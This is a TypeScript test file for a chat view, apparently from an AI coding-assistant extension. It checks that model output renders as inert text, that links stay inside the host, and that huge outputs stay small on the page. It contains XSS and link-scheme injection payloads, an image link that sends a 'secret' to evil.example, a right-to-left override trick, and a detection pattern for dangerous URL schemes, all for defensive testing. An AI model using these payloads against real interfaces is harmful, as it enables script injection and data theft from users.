// A model that wants to do harm: nothing runs, nothing is loaded, nothing hides, and the view stays small.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { ChatEvent, ToView } from "../../src/chat/messages";
import { call, SESSION } from "./scenes";
import { Harness, type View } from "./view";

let harness: Harness;
before(async () => (harness = await Harness.start()));
after(() => harness.stop());

const START: ChatEvent = { kind: "turnStarted", turn: 1, prompt: "<img src=x onerror=alert(1)>", model: "<b>bad</b>" };

async function told(...events: ChatEvent[]): Promise<View> {
  const view = await harness.open();
  const message: ToView = { kind: "events", session: SESSION, events: [START, ...events], replay: false };
  await view.say({ kind: "session", session: SESSION }, message);
  return view;
}

async function harmless(view: View): Promise<void> {
  assert.deepEqual(view.complaints, []);
  assert.deepEqual(await view.violations(), []);
  const found = await view.page.evaluate(() => ({
    bad: document.querySelectorAll("#chat script, #chat iframe, #chat img, #chat object, #chat form, #chat svg, #chat style, #chat link").length,
    handlers: [...document.querySelectorAll("#chat *")].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on"))),
    links: [...document.querySelectorAll("#chat a")].map((link) => link.getAttribute("href") ?? "").filter((href) => /^\s*(javascript|data|vbscript|file|command|vscode)/i.test(href)),
  }));
  assert.deepEqual(found, { bad: 0, handlers: [], links: [] });
}

const INJECTIONS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt&colon;alert(1))",
  "[click](java\u0000script:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](command:workbench.action.terminal.new)",
  "[click](vscode://evil/run)",
  "![steal](https://evil.example/?q=secret)",
  '<a href="javascript:alert(1)">x</a>',
  "<svg onload=alert(1)>",
  '[x]: https://evil.example "onmouseover=alert(1)"\n\n[x]',
  '```html"><script>alert(1)</script>\n<b>x</b>\n```',
  "<style>*{display:none}</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];

test("injected Markdown and HTML stay text", async () => {
  const view = await told({ kind: "text", text: INJECTIONS.join("\n\n") });
  await view.screen("hostile-markdown");
  await harmless(view);
  assert.match(await view.page.locator(".rows").innerText(), /<script>alert\(1\)<\/script>/);
});

test("every place that shows the model's words shows them as words", async () => {
  const evil = "<img src=x onerror=alert(1)>";
  const view = await told(
    { kind: "titled", title: evil },
    { kind: "contextSent", turn: 1, items: [{ kind: "file", label: evil, bytes: 1 }] },
    { kind: "thought", subject: evil, description: evil },
    { ...call("1", evil, "command", evil), tool: evil } as ChatEvent,
    { kind: "toolPrinted", call: "1", text: evil },
    { kind: "editMade", proposal: 1, call: "2", path: evil, hunks: [{ baseLine: 0, line: 0, removed: evil, added: evil }], allEdits: [] },
    { kind: "citation", title: evil, uri: "javascript:alert(1)" },
    { kind: "modelChanged", from: evil, to: evil, reason: evil, avoidedUntil: { until: "nextTurn" } },
    { kind: "hookSaid", message: evil },
    { kind: "todos", todos: [{ description: evil, status: "pending" }] },
    { kind: "promptQueued", id: 1, text: evil },
    { kind: "commandAnswered", command: evil, text: evil },
    {
      kind: "approvalRequested",
      approval: 1,
      call: "3",
      tool: evil,
      title: evil,
      reason: evil,
      subject: { kind: "command", command: `echo \u202e${evil}`, folder: evil, programs: [], cautions: [evil] },
      offers: [{ label: evil, scopes: ["session"] }],
    },
    { kind: "editProposed", proposal: 5, call: "4", path: evil, hunks: [{ baseLine: 0, line: 0, removed: evil, added: evil }], allEdits: [] },
  );
  await harmless(view);
  // What is asked for must be seen as it is: the mark that turns the writing direction is named.
  assert.match(await view.page.locator(".question .subject").first().innerText(), /⟨U\+202E⟩/);
});

test("links lead to the host, with their address, and never away", async () => {
  const view = await told({ kind: "text", text: "[page](https://example.com/a) and [file](src/upload.rs#L41) " }, { kind: "turnEnded", turn: 1, outcome: "completed", message: "" });
  const before = view.page.url();
  await view.page.locator("a", { hasText: "page" }).click();
  await view.page.locator("a", { hasText: "file" }).click();
  const posted = (await view.posted()).filter(({ kind }) => kind === "openLink" || kind === "openFile");
  assert.deepEqual(posted, [
    { kind: "openLink", href: "https://example.com/a" },
    { kind: "openFile", path: "src/upload.rs", line: 41 },
  ]);
  assert.equal(view.page.url(), before);
});

test("huge lines, endless output and endless lists of everything stay small on the page", async () => {
  const view = await told(
    { kind: "text", text: "x".repeat(2_000_000) },
    { kind: "text", text: `\n\n\`\`\`\n${"y".repeat(1_000_000)}\n${"line\n".repeat(50_000)}\`\`\`\n` },
    call("1", "z".repeat(100_000), "command"),
    { kind: "toolPrinted", call: "1", text: "\u001b[31m" + "o".repeat(1_000_000) + "\n" },
    { kind: "toolPrinted", call: "1", text: "yes\n".repeat(200_000) },
  );
  await harmless(view);
  assert.ok((await view.nodes()) < 1_500);
  const letters = await view.page.evaluate(() => document.body.innerText.length);
  assert.ok(letters < 100_000, `${letters} letters on the page`);
  const page = view.page;
  await page.locator(".scroller").evaluate((scroller) => (scroller.scrollTop = 0));
  await view.say();
  assert.ok((await view.nodes()) < 1_500);
  await page.getByRole("textbox").fill("still here");
  assert.equal(await page.getByRole("textbox").inputValue(), "still here");
});

test("output of terminals is shown without its colours, in a line that can be read", async () => {
  const view = await told(call("1", "build", "command"), { kind: "toolPrinted", call: "1", text: "\u001b[32mok\u001b[0m\r\n10 %\r100 %\n" });
  assert.equal(await view.page.locator(".live").innerText(), "ok\n100 %");
});
